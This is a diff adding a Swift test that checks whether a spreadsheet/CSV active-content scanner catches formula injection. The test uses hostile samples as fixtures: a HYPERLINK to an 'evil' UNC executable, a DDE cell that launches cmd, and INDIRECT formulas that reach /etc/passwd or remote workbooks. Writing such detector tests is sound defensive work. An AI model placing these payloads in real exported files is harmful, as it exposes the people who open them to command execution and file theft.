@@ -120,4 +120,26 @@ struct FormulaTests {
             #expect(TextActiveContent.findings(in: Array(text.utf8)).isEmpty, "\(text) -> \(TextActiveContent.findings(in: Array(text.utf8)))")
         }
     }
+
+    /// Round 2: Excel's `sep=` line declares the delimiter (read with and without it), and INDIRECT reaches another
+    /// document through a string.
+    @Test func declaredSeparatorsAndIndirectReferences() {
+        for separator in ["|", ":", " ", "!"] {
+            let csv = "sep=\(separator)\nname\(separator)link\nx\(separator)=HYPERLINK(\"\\\\evil\\s\\x.exe\")\n"
+            #expect(!TextActiveContent.findings(in: Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+            #expect(!TextActiveContent.findings(in: [0xEF, 0xBB, 0xBF] + Array(csv.utf8), csv: true).isEmpty, "\(csv.debugDescription)")
+        }
+        // A reader that ignores the line still splits at commas: the DDE cell is found either way.
+        #expect(!TextActiveContent.findings(in: Array("sep=|\na,=cmd|' /C calc'!A0\n".utf8), csv: true).isEmpty)
+        #expect(TextActiveContent.findings(in: Array("sep=|\na|b|=SUM(A1:A2)|-3\n".utf8), csv: true).isEmpty)
+        for formula in [
+            "INDIRECT(\"'file:///etc/passwd'#$passwd.A1\")", "1+indirect(\"[x.xlsx]S!A1\")", "INDIRECT(\"'\\\\h\\s\\[x.xls]S'!A1\")",
+            "\"'https://h.example/x.ods'#$S.A1\"&INDIRECT(A1)",
+        ] {
+            #expect(OOXMLParts.formulaProblem(formula) != nil, "\(formula)")
+        }
+        for formula in ["INDIRECT(\"Sheet1!A\"&ROW())", "INDIRECT(\"'My Sheet'!B2\")", "\"file:x\"&A1", "INDIRECT(A1)"] {
+            #expect(OOXMLParts.formulaProblem(formula) == nil, "\(formula) -> \(OOXMLParts.formulaProblem(formula) ?? "")")
+        }
+    }
 }
